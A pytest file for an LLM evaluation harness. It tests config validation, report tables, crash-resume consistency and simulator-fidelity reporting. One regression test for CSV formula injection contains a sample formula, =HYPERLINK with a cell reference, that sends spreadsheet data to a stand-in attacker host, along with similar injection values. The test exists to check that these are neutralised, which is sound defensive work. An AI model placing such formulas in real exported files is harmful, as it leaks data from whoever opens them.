"""Experiments end to end on the demo users with the scripted protocol LLM: the file's validation, the plan,
the report's tables equal to values computed by hand, and a run killed with SIGKILL that, resumed, has no
duplicate and no missing unit and reports exactly what an uninterrupted run reports."""

from __future__ import annotations

import os
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pytest

from backends.paths import StatePaths
from evaluation.bleu import bleu, bleu_max
from evaluation.tasks import selection_score
from protocol.config import ExperimentError, load_experiment
from protocol.report import build_report, render
from testkit.protocol_fake import G_SCORE, PICKS, PROPOSAL, RESTATEMENT
from testkit.run_experiment import open_experiment, run
from tests.conftest import DEMO, ROOT

FILE = ROOT / "experiments" / "demo-small.toml"


def write(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "exp.toml"
    path.write_text(text, encoding="utf-8")
    return path


BASE = f'name = "t"\ndataset = "{DEMO}"\nmethods = ["vanilla-log"]\nbaseline = "vanilla"\n'


@pytest.mark.parametrize("extra, field", [
    ('tasks = ["build"]\nconcurency = 2\n', "concurency: unknown field"),
    ('tasks = ["dialog"]\n', "tasks.0:"),
    ('tasks = ["faireval"]\n', "faireval judges the dialogues"),
    ('tasks = ["build"]\nk = 0\n', "k:"),
    ('tasks = ["build"]\n[roles.jugde]\nmodel = "x"\n', "[roles.jugde] is not a role"),
    ('tasks = ["build"]\n[roles.judge]\napi_key = "sk-1"\n', "roles.judge.api_key: unknown field"),
])
def test_a_wrong_file_is_refused_naming_the_field(tmp_path, extra, field):
    with pytest.raises(ExperimentError) as e:
        load_experiment(write(tmp_path, BASE + extra))
    assert str(e.value).startswith(str(tmp_path / "exp.toml")) and field in str(e.value)


def test_the_example_file_plans_every_task_with_estimates(tmp_path):
    ws, exp, plan = open_experiment(tmp_path / "pal", FILE)
    assert exp.users == ["1000", "1001"] and exp.available_tasks() == exp.tasks
    kinds = {}
    for u in plan.job.units:
        kinds[u.kind] = kinds.get(u.kind, 0) + 1
    topics = 4  # the first 2 query topics of each of the two users (both in its session 7: 8 sessions to build)
    assert kinds == {"memory.session": 2 * 8, "eval.tasks": 2 * topics, "sim.run": 2 * topics, "eval.judge": 2 * topics}
    rows = {(r.task, r.method): r for r in plan.rows}
    assert rows[("faireval", "vanilla-log")].calls == 2 * topics * 2 * exp.k  # both orders, k each, two aspects
    assert rows[("restatement+proposal+selection", "vanilla")].calls == topics * 4
    assert rows[("build", "vanilla-log")].calls == 0 and rows[("build", "vanilla-log")].basis == "none"
    assert plan.wall_seconds > 0 and all(r.usd == 0.0 for r in plan.rows)  # the bundled model is free


def expected_single(ws, exp) -> dict:
    """The single-turn table by hand: the scripted answers scored against each query topic of the demo users."""
    ds = ws.dataset(exp.dataset)
    r_b1, p_b1, s = [], [], []
    for uid in exp.users:
        topics = [t for session in ds.users[uid].query for t in session.topics][: exp.topics_per_user]
        for t in topics:
            r_b1.append(bleu(t.topic.requirement, RESTATEMENT)[1])
            p_b1.append(bleu_max(t.topic.solution.pos, PROPOSAL)[1])
            s.append(selection_score(PICKS, [c.feedback for c in t.topic.candidate_solutions]))
    return {"R-B1": 100 * np.mean(r_b1), "P-B1": 100 * np.mean(p_b1), "S": 50 * np.mean(s), "G": 50 * G_SCORE,
            "n": len(s)}


def test_report_tables_equal_hand_computed_values(tmp_path):
    line = run(tmp_path / "pal", FILE)
    assert line.startswith("[40/40]")
    ws, exp, _ = open_experiment(tmp_path / "pal", FILE)
    report = build_report(exp, ws.jobs.store.units(exp.job_id()), ws.evals)
    want = expected_single(ws, exp)
    assert [r["method"] for r in report.single] == ["vanilla-log", "vanilla"]
    for row in report.single:
        assert row["restatement_bleu1"]["value"] == pytest.approx(want["R-B1"])
        assert row["proposal_bleu1"]["value"] == pytest.approx(want["P-B1"])
        assert row["s_score"]["value"] == pytest.approx(want["S"]) and row["s_score"]["n"] == want["n"]
        assert row["g_score"]["value"] == pytest.approx(want["G"])
        assert row["restatement_invalid"] == row["g_invalid"] == row["selection_invalid"] == 0
        assert row["restatement_dropped"] == row["selection_dropped"] == 0
    fair = {r["aspect"]: r for r in report.faireval}
    # requirement: the judge scores 7/7 → every topic a tie; preference: the remembering assistant wins all
    assert (fair["requirement"]["win"], fair["requirement"]["tie"], fair["requirement"]["lose"]) == (0, 4, 0)
    assert fair["requirement"]["adjusted_win_rate"] == 0.5 and fair["requirement"]["adjusted_win_rate_ci"] == [0.5, 0.5]
    assert (fair["preference"]["win"], fair["preference"]["tie"], fair["preference"]["lose"]) == (4, 0, 0)
    assert fair["preference"]["samples"] == 4 * 2 * exp.k and fair["preference"]["invalid_samples"] == 0
    md, csv, tex = (render(report, f) for f in ("markdown", "csv", "latex"))
    # …and the position figures: both orders name the remembering side every time, so nothing is position-decided
    assert "| vanilla-log | vanilla | preference | 4 | 0 | 0 | 1.000 [1.000, 1.000] | 0 | 0/8 | 0 | 1.000 | 0/4 |" in md
    assert csv.count("\n") == 2 + 2 + 2 + 2 and r"\begin{tabular}" in tex and "vanilla-log" in tex


def stored(home: Path, sql: str) -> int:
    try:
        with sqlite3.connect(StatePaths(home).runs_db, timeout=5) as conn:
            return conn.execute(sql).fetchone()[0]
    except sqlite3.OperationalError:  # not created yet
        return 0


def records(home: Path) -> dict:
    """Everything the experiment wrote, without times and latencies: utterances, judgments' samples, results."""
    with sqlite3.connect(StatePaths(home).runs_db) as conn:
        turns = conn.execute("SELECT run_id, turn_no, side, json_extract(data, '$.content') FROM sim_turns "
                             "ORDER BY 1, 2, 3").fetchall()
        judged = conn.execute("SELECT judgment_key, json_extract(data, '$.decision'), json_extract(data, '$.samples') "
                              "FROM judgments ORDER BY 1").fetchall()
        results = conn.execute("SELECT result_key, json_extract(data, '$.prediction'), json_extract(data, '$.bleu') "
                               "FROM bench_results ORDER BY 1").fetchall()
        units = conn.execute("SELECT unit_id, status FROM job_units ORDER BY 1").fetchall()
        stages = conn.execute("SELECT build_id, stage, sample_id, llm_calls FROM memory_build_stages ORDER BY 1, 2"
                              ).fetchall()
        items = conn.execute("SELECT build_id, item_id, version, valid_from, valid_to, data FROM memory_items "
                             "ORDER BY 1, 2, 3").fetchall()
    return {"turns": turns, "judgments": judged, "results": results, "units": units, "stages": stages, "items": items}


@pytest.mark.slow(seconds=8)
def test_a_run_killed_mid_way_resumes_without_duplicates_and_reports_the_same(tmp_path):
    killed, clean = tmp_path / "killed", tmp_path / "clean"
    proc = subprocess.Popen([sys.executable, "-m", "testkit.run_experiment", str(killed), str(FILE), "--slow", "0.01"],
                            cwd=ROOT, env={**os.environ, "PYTHONPATH": str(ROOT)}, stdout=subprocess.PIPE)
    deadline = time.monotonic() + 120
    while stored(killed, "SELECT COUNT(*) FROM job_units WHERE status='done'") < 20 and time.monotonic() < deadline:
        time.sleep(0.05)
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait(10)
    done_at_kill = stored(killed, "SELECT COUNT(*) FROM job_units WHERE status='done'")
    assert 20 <= done_at_kill < 40, "kill it mid-way"
    finished = {r[0] for r in records(killed)["judgments"]} | {r[0] for r in records(killed)["results"]}
    assert run(killed, FILE).startswith("[40/40]")
    assert run(clean, FILE).startswith("[40/40]")
    a, b = records(killed), records(clean)
    assert a == b  # no duplicate, no missing record, the same texts and samples
    assert finished <= {r[0] for r in a["judgments"]} | {r[0] for r in a["results"]}
    ws_a, exp, _ = open_experiment(killed, FILE)
    ws_b, _, _ = open_experiment(clean, FILE)
    rep_a = build_report(exp, ws_a.jobs.store.units(exp.job_id()), ws_a.evals)
    rep_b = build_report(exp, ws_b.jobs.store.units(exp.job_id()), ws_b.evals)
    assert render(rep_a) == render(rep_b)
    attempts = stored(killed, "SELECT MAX(attempts) FROM job_units")
    assert attempts <= 2  # only the units running at the kill ran twice


def test_the_csv_report_neutralises_formulas():
    """Audit finding 20: the experiment report's CSV wrote method names (a bundle can bring any) as they were, so
    ``=HYPERLINK(…)`` ran in a spreadsheet."""
    import csv as csv_module
    import io

    from protocol.report import Report

    evil = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    fair = {"method_a": evil, "method_b": "@SUM(1)", "aspect": "requirement", "win": 1, "tie": 0, "lose": 0,
            "adjusted_win_rate": 1.0, "adjusted_win_rate_ci": [1.0, 1.0], "n": 1, "invalid_judgments": 0,
            "invalid_samples": 0, "samples": 2, "dropped": 0}
    report = Report(name="x", baseline="-1+2", single=[], faireval=[fair], units={})
    cells = [c for row in csv_module.reader(io.StringIO(render(report, "csv"))) for c in row]
    assert "'" + evil in cells and "'@SUM(1)" in cells and evil not in cells
    assert not [c for c in cells if c[:1] in "=+-@" and not c.lstrip("-").replace(".", "").isdigit()]


SIMFID = (f'name = "sims"\ndataset = "{DEMO}"\nusers = ["1000"]\ntopics_per_user = 1\nmethods = ["vanilla-log"]\n'
          'baseline = "vanilla"\ntasks = ["dialogue", "faireval", "simulator-fidelity"]\nk = 1\n'
          'simulators = ["llm", "always-accept"]\n')


@pytest.mark.parametrize("extra, field", [
    ('tasks = ["simulator-fidelity"]\n', "tasks: simulator-fidelity checks the dialogues"),
    ('tasks = ["dialogue"]\nsimulators = ["gpt"]\n', "simulators: unknown simulator 'gpt'"),
    ('tasks = ["dialogue"]\n[simulator_fidelity]\nclasifier = "rule"\n', "simulator_fidelity.clasifier: unknown field"),
])
def test_simulator_options_are_validated_naming_the_field(tmp_path, extra, field):
    with pytest.raises(ExperimentError) as e:
        load_experiment(write(tmp_path, BASE + extra))
    assert str(e.value).startswith(str(tmp_path / "exp.toml")) and field in str(e.value)


@pytest.mark.slow(seconds=40)
def test_the_simulator_fidelity_task_checks_every_dialogue_and_reports_per_simulator(tmp_path):
    file = write(tmp_path, SIMFID)
    ws, exp, plan = open_experiment(tmp_path / "pal", file)
    kinds: dict[str, int] = {}
    for u in plan.job.units:
        kinds[u.kind] = kinds.get(u.kind, 0) + 1
    assert kinds["sim.run"] == 4 and kinds["sim.fidelity"] == 4 and kinds["eval.judge"] == 2 * 2
    fid = next(u for u in plan.job.units if u.kind == "sim.fidelity")
    assert fid.deps == [f"sim/{fid.payload['run_id']}"]
    rows = {(r.task, r.method): r for r in plan.rows}
    assert rows[("simulator-fidelity", "vanilla")].calls == 0  # the rule classifier calls no model
    assert run(tmp_path / "pal", file).startswith(f"[{len(plan.job.units)}/{len(plan.job.units)}]")
    units = ws.jobs.store.units(exp.job_id())
    report = build_report(exp, units, ws.evals, ws.simfidelity)
    assert [(r["simulator"], r["runs"]) for r in report.simulators] == [("always-accept", 2), ("llm", 2)]
    assert report.simulators[0]["simulator_model"] == "always-accept"
    assert "## Simulator fidelity" in render(report) and "always-accept" in render(report, "latex")
    judged = {(j.run_a, j.run_b) for j in ws.evals.judgments()}
    specs = {ws.sims.load(j[0]).spec.simulator for j in judged} | {ws.sims.load(j[1]).spec.simulator for j in judged}
    assert specs == {"llm", "always-accept"}  # each pair judged within one simulator
    assert all(ws.sims.load(a).spec.simulator == ws.sims.load(b).spec.simulator for a, b in judged)
